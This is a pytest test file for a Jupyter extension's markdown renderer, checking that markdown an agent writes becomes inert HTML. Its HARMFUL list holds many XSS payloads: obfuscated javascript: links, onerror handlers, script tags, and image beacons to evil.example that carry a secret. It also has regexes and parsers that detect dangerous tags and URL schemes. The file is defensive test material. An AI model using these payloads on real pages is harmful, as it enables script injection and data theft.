"""What the agent writes cannot act in the page."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from navi_jupyter.kernel.display import markdown
from navi_jupyter.kernel.display.markdown import (
    AS_TEXT,
    MAX_DEPTH,
    MAX_SIGNS,
    MAX_TEXT,
    attachments_in,
    is_safe,
    to_html,
)
from navi_jupyter.markdown_text import closed, defused, with_plain_dollars, without_marks

HARMFUL = [
    "![x](http://evil.example/?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/",
    "<img src=http://evil.example/>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- --><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&Tab;script:alert(1))",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "`<img src=x>` <img src=http://evil.example/>",
    "- a\n  ```\n![x](http://evil.example/)",
    "- ~~~\n  ```\n  ~~~\n  ![x](http://evil.example/)",
    "  ~~~\n```\n  ~~~\n![x](http://evil.example/)",
    "> ```\n![x](http://evil.example/)",
    "```a`b\n![x](http://evil.example/)",
    "```\r![x](http://evil.example/)\r```\r![y](http://evil.example/)",
    "<details ontoggle=alert(1) open>x</details>",
    "$<img src=x onerror=alert(1)>$",
    "$`<img src=x onerror=alert(1)>`$",
    "$$<img src=x onerror=alert(1)>$$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "\\(<img src=x onerror=alert(1)>\\)",
    "\\[<svg/onload=alert(1)>\\]",
    "$a < <img src=x onerror=alert(1)>$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| $<svg/onload=alert(1)>$ |",
    '| a |\n|:-:" onmouseover=alert(1) x|\n| b |',
    '# <img src=x onerror=alert(1)> {#x"onclick=alert(1)}',
    '[x](http://a ""onmouseover=alert(1) y="")',
    '[x](http://a"onmouseover=alert(1))',
    "[<img src=x onerror=alert(1)>](http://a)",
    "![<img src=x onerror=alert(1)>](http://a)",
    '![x" onerror="alert(1)](http://a)',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '```py" onclick=alert(1)\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
    "~~<img src=x onerror=alert(1)>~~",
    "*<img src=x onerror=alert(1)>*",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "[ruby(<img src=x onerror=alert(1)>)]",
    ">! <img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "[click](%6a%61vascript:alert(1))",
    "[click](java\u200bscript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](%2541vascript:alert(1))",
    "[click](file:///etc/passwd)",
    "[click](blob:http://a/b)",
    "<data:text/html,x>",
    "<vbscript:x>",
]


HARMFUL_URL = re.compile(r"[\s\0-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)


class Dangers(HTMLParser):
    """Collects what could act or load in HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "svg", "iframe", "object", "embed", "style", "link", "video", "audio", "details"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and HARMFUL_URL.match(value or "")):
                self.found.append(f"{tag} {name}={value}")


def dangers(html: str) -> list[str]:
    parser = Dangers()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("text", HARMFUL)
def test_html_made_from_it_loads_and_runs_nothing(text: str) -> None:
    html = to_html(text)
    assert html is not None
    assert dangers(html) == []
    assert not_allowed(html) == []


ALLOWED: dict[str, str] = {
    **dict.fromkeys(["p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6"], ""),
    **dict.fromkeys(["em", "strong", "del", "small", "ul", "sup"], ""),
    **dict.fromkeys(["blockquote", "table", "thead", "tbody", "tr"], ""),
    "pre": "tabindex role aria-label",
    "li": "style id",
    "input": "type disabled checked aria-label",
    "section": "class aria-label",
    "ol": "start",
    "code": "class",
    "div": "class style role aria-label tabindex",
    "span": "class",
    "a": "href target rel id aria-label",
    "th": "style",
    "td": "style",
}
HREF = re.compile(r"(?:https?|mailto|ftps?|tel):|[^:]*(?:[/?#]|$)", re.IGNORECASE)


class Allowed(HTMLParser):
    """Collects what is not on a list of tags, attributes and schemes, and tags that do not match."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"{tag} {name}" for name, _ in attrs if name not in ALLOWED.get(tag, "").split()]
        if tag not in ALLOWED:
            self.found.append(tag)
        for name, value in attrs:
            if name == "href" and not HREF.match(value or ""):
                self.found.append(f"href={value}")
            if name == "style" and not re.fullmatch(
                r"text-align:\w+|white-space:pre-wrap;overflow-wrap:anywhere|list-style:none|overflow-x:auto",
                value or "",
            ):
                self.found.append(f"style={value}")
        if tag not in ("br", "hr", "input"):
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.found.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def not_allowed(html: str) -> list[str]:
    parser = Allowed()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HARMFUL)
def test_it_is_safe_without_the_escaping_of_mistune(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    mistune = pytest.importorskip("mistune")
    for module in (mistune, mistune.util, mistune.renderers.html):
        for name in ("escape", "escape_text", "safe_entity", "escape_url", "striptags"):
            if hasattr(module, name):
                monkeypatch.setattr(module, name, lambda value, *_: value)
    for module in (mistune.block_parser, mistune.inline_parser):
        monkeypatch.setattr(module, "escape_url", lambda value: value)
    html = to_html(text)
    assert html is not None
    assert dangers(html) == []
    assert not_allowed(html) == []


@pytest.mark.parametrize(
    "url", ["http://a", "HTTPS://a", "a/b.ipynb", "/a", "#a", "?a=b:c", "mailto:a@b", "./a:b", "a%20b"]
)
def test_a_link_may_lead_to_a_page_a_file_or_a_letter(url: str) -> None:
    assert is_safe(url)


HERE = Path(__file__).parent
FEATURES = json.loads((HERE / "markdown_features.json").read_text(encoding="utf-8"))
FORMULAS = json.loads((HERE / "formulas.json").read_text(encoding="utf-8"))
HEAVY = {
    name: "".join(part * count for part, count in parts)
    for name, parts in json.loads((HERE / "heavy_markdown.json").read_text(encoding="utf-8")).items()
}
FORMULA = re.compile(r'<(span|div) class="navi-math[^>]*>\\[(\[](.*?)\\[)\]]</\1>', re.DOTALL)


class Outline(HTMLParser):
    """What of the features is in HTML: the chat's test makes the same of its elements."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tasks: list[list[Any]] = []
        self.references: list[str] = []
        self.notes: list[str] = []
        self.columns: list[list[str]] = []
        self.code: list[list[str]] = []
        self.images: list[str] = []
        self.bold: list[str] = []
        self._text: list[str] = []  # of the element that is being read
        self._notes = self._note = False
        self._task: bool | None = None
        self._language = ""
        self._in_head = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        fields = dict(attrs)
        if tag == "input":
            self._task, self._text = "checked" in fields, []
        elif tag in ("sup", "code", "strong") or (self._notes and tag == "li"):
            self._text = self._text if self._note else []
            self._note = self._note or tag == "li"
            self._language = (fields.get("class") or "").removeprefix("language-")
        elif tag == "section":
            self._notes = True
        elif tag == "table":
            self.columns.append([])
        elif tag == "th":
            self.columns[-1].append((fields.get("style") or "").removeprefix("text-align:"))
        elif tag == "img":
            self.images.append(fields.get("src") or "")
        elif tag == "a" and self._notes and fields.get("aria-label") == "Back to the text":
            self.handle_endtag("li")

    def handle_endtag(self, tag: str) -> None:
        text = " ".join("".join(self._text).split())
        if self._task is not None and tag in ("li", "p"):
            self.tasks.append([self._task, text])
            self._task = None
        elif tag == "sup":
            self.references.append("".join(self._text)[-1:])
        elif tag == "li" and self._note:
            self.notes.append(text)
            self._note, self._text = False, []
        elif tag == "code":
            self.code.append([self._language, "".join(self._text).strip()])
        elif tag == "strong":
            self.bold.append(text)

    def handle_data(self, data: str) -> None:
        self._text.append(data)


@pytest.mark.parametrize("name", FEATURES)
def test_tasks_footnotes_columns_code_and_images_are_read_as_in_the_chat(name: str) -> None:
    text, outline = FEATURES[name]
    html = to_html(text)
    assert html is not None
    found = vars(Outline(html))
    assert {key: found[key] for key in outline} == outline, html


def test_code_is_coloured_and_keeps_every_character() -> None:
    code = "def f(x):  # twice\n    return '$' + x * 2\n\n"
    html = to_html(f"```python\n{code}```", coloured=True)
    assert html is not None
    assert '<span class="k">def </span>' in html
    assert not_allowed(html) == []
    inner = re.sub(r"<[^>]+>", "", html[html.index("<code") :])
    assert unescape(inner) == code + "\n"
    plain = to_html("```nothing-known\nx < 1\n```", coloured=True)
    assert plain is not None
    assert "x &lt; 1" in plain


def test_footnotes_of_two_messages_have_ids_of_their_own() -> None:
    text = "a[^1]\n\n[^1]: note"
    one, other = (re.findall(r'id="([^"]+)"', to_html(text, scope=scope) or "") for scope in ("r_1 m_1", "r_1 m_2"))
    assert len(one) == 2
    assert not set(one) & set(other)


def test_an_attachment_is_shown_where_it_was_fetched() -> None:
    text = "![plot](attachment:a_1)"
    assert attachments_in(text) == {"a_1"}
    html = to_html(text, images={"a_1": ("image/png", b"abc")})
    assert html is not None
    assert 'src="data:image/png;base64,YWJj"' in html
    for images in ({}, {"a_1": ("text/html", b"<script>")}, {"a_1": ("image/png", b"")}):
        assert "<img" not in (to_html(text, images=images) or "")


@pytest.mark.parametrize(("text", "formulas"), FORMULAS, ids=[text for text, _ in FORMULAS])
def test_a_formula_is_told_from_money_variables_and_brackets(text: str, formulas: list[list[object]]) -> None:
    html = to_html(text)
    assert html is not None
    assert [[unescape(tex), tag == "div"] for tag, tex in FORMULA.findall(html)] == formulas


@pytest.mark.parametrize("text", [text for text, _ in FORMULAS])
def test_a_dollar_or_backslash_that_is_no_formula_is_inert_for_a_typesetter(text: str) -> None:
    html = to_html(text)
    assert html is not None
    # Typesetters look for both marks of a formula in one text: one of a single character has no two.
    alone = re.sub(r"<span>[$\\]</span>", "", FORMULA.sub("", html))
    assert not re.search(r"[$\\]", re.sub(r"<[^>]*>", "", alone))


@pytest.mark.parametrize("name", HEAVY)
def test_a_text_that_would_take_long_or_nest_deep_is_shown_within_bounds(name: str) -> None:
    text = HEAVY[name]
    html = to_html(text)
    assert html is not None
    assert not_allowed(html) == []
    assert len(html) < 20 * len(text) + 3_000_000
    if not set(text) <= set("*_-~` \n") and name not in ("definitions", "fences"):  # no words: a rule, or a fence
        assert unescape(re.sub(r"<[^>]*>", "", html)).strip()


@pytest.mark.parametrize("write", [to_html, with_plain_dollars], ids=["cell", "notebook"])
@pytest.mark.parametrize("name", [name for name in HEAVY if "formula" in name])
def test_marks_that_open_no_formula_are_not_searched_for_ever(write: Callable[[str], object], name: str) -> None:
    began = time.process_time()
    write(HEAVY[name])
    assert time.process_time() - began < 4


def test_dollars_behind_many_marks_that_open_no_formula_are_plain() -> None:
    written = with_plain_dollars("$x$ " + "\\(" * 3000 + " $5")
    assert written.startswith("$x$ ")
    assert written.endswith("<span>&#36;</span>5")


def test_a_paragraph_with_too_many_signs_is_text_and_its_neighbours_are_markdown() -> None:
    html = to_html(f"*one*\n\n{'*a ' * (MAX_SIGNS + 1)}\n\n**two**")
    assert html is not None
    assert "<em>one</em>" in html
    assert "<strong>two</strong>" in html
    assert html.count(AS_TEXT) == 1
    assert html.count("*a ") >= MAX_SIGNS


def test_a_text_that_is_too_long_is_shown_as_text() -> None:
    html = to_html("*a* " * MAX_TEXT)
    assert html is not None
    assert AS_TEXT in html
    assert "<em>" not in html


def test_what_a_parser_cannot_read_is_shown_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(text: str) -> list[dict[str, object]]:
        raise RecursionError

    monkeypatch.setattr(markdown, "_reader", lambda: fails)
    html = to_html("*a* <b>")
    assert html is not None
    assert "*a* &lt;b&gt;" in html
    assert AS_TEXT in html


def test_tokens_that_nest_deeper_than_the_bound_are_text(monkeypatch: pytest.MonkeyPatch) -> None:
    token: dict[str, object] = {"type": "text", "raw": "deep"}
    for _ in range(100 * MAX_DEPTH):
        token = {"type": "block_quote", "children": [token]}
    monkeypatch.setattr(markdown, "_reader", lambda: lambda *_: [token])
    html = to_html("x")
    assert html is not None
    assert html.count("<blockquote>") == MAX_DEPTH
    assert "deep" in html


@pytest.mark.parametrize("text", HARMFUL)
def test_defused_markdown_is_harmless_in_a_renderer_that_lets_html_through(text: str) -> None:
    mistune = pytest.importorskip("mistune")
    # The most permissive reader: raw HTML as it is, every scheme allowed.
    render = mistune.create_markdown(
        escape=False, renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    )
    assert dangers(render(defused(text))) == []


@pytest.mark.parametrize(
    "text",
    [
        "plain *text* with `code` and [a link](https://example.org/a?b=c)",
        "```python\nif a <b and x![0]:\n    print('<img>')\n```",
        "a < b, 3 > 2 & <https://example.org/>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_harmless_markdown_is_left_alone(text: str) -> None:
    assert defused(text) == text


def test_code_keeps_every_character_in_html() -> None:
    html = to_html("```c\n#include <stdio.h>\n```\nand `vector<int>`")
    assert html is not None
    assert "#include &lt;stdio.h&gt;" in html
    assert "vector&lt;int&gt;" in html


OPEN = [
    "a\n```py\nx = 1",
    "a\n~~~\nx = 1",
    "````\n```\nx\n```",
    "```\n~~~\n```\n~~~",
    "   ```\nx",
    "~~~ a`b\nx",
    "```\n    ```",
    "<!-- a",
    "<!--\n```\n",
    "text\n\n<script>\nalert(1)",
    "<pre>a",
    "<style>\na",
    "<?php\n",
    "<![CDATA[\n",
    "- a\n  ```\n  x",
    "- a\n\n  ```\n  x\n\n  y",
    "10. a\n    ```\n    x",
    "- a\n\nb\n  ```\n  x",
    "- a\n```\nx",
    "> ```\n> x",
    "**bold and `code",
    "$$\nx = 1",
    "| a | b",
    "[a](b",
    "a\r\n```py\r\nx",
]


@pytest.mark.parametrize("text", OPEN)
def test_what_follows_a_closed_text_is_not_swallowed(text: str) -> None:
    html = to_html(f"{closed(text)}\n\n## next")
    assert html is not None
    assert "<h2>next</h2>" in html


@pytest.mark.parametrize("text", ["-\n  ```\n  x", "1.\n   ~~~\n   x", "-\n\n  ```\n  x", "* \n```\nx", "-\n```\nx"])
def test_a_fence_below_an_empty_item_of_a_list_swallows_nothing(text: str) -> None:
    html = to_html(f"{closed(text)}\n\n## next")
    assert html is not None
    assert "<h2>next</h2>" in html


def test_an_open_fence_is_closed() -> None:
    assert closed("a\n```py\nx = 1") == "a\n```py\nx = 1\n```"
    assert closed("a\n```py\nx = 1\n```\nb") == "a\n```py\nx = 1\n```\nb"
    assert closed("a <!-- b --> c\n<!-- d -->") == "a <!-- b --> c\n<!-- d -->"
    assert closed("```a`b``` c") == "```a`b``` c"


@pytest.mark.parametrize(
    "text",
    [
        *(
            "OPENAI_API_KEY",
            "__init__",
            "__a_b__ and __c__",
            "2*3*4",
            "a * b * c",
            "a~b",
            "~/x and ~/y",
            "<T>",
            "List<T>",
        ),
        *(
            "cat x | grep y",
            "C# and F#",
            "#hashtag",
            "a > b",
            "*args and **kwargs",
            "f(*args, **kwargs)",
            "snake_case_name",
        ),
        *(
            "_private",
            "x_1_2",
            "a_b_c d_e_f",
            "**/*.py and *.txt",
            "[1] and [x]",
            "a[0](b c)",
            "x = y",
            "1 - 2",
            "$PATH",
        ),
    ],
)
def test_a_name_keeps_its_characters_where_markdown_is_taken_away(text: str) -> None:
    assert without_marks(text) == text


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("**bold**, _it_, *that*, ~~gone~~", "bold, it, that, gone"),
        ("**bold _and_ more**", "bold and more"),
        ("***both***", "both"),
        ("**OPENAI_API_KEY** is set", "OPENAI_API_KEY is set"),
        ("`OPENAI_API_KEY` and ``a`b``", "OPENAI_API_KEY and a`b"),
        ("`*a*` and \\*b\\*", "*a* and *b*"),
        ("# Head", "Head"),
        ("> a > b", "a > b"),
        ("[a](http://b) and ![i](u)", "a and i"),
        ("```py\nx_1 = '*'\n```", "x_1 = '*'"),
        ("| a | b |", "a | b"),
    ],
)
def test_marks_of_markdown_are_taken_away(text: str, plain: str) -> None:
    assert " ".join(without_marks(text).split()) == plain
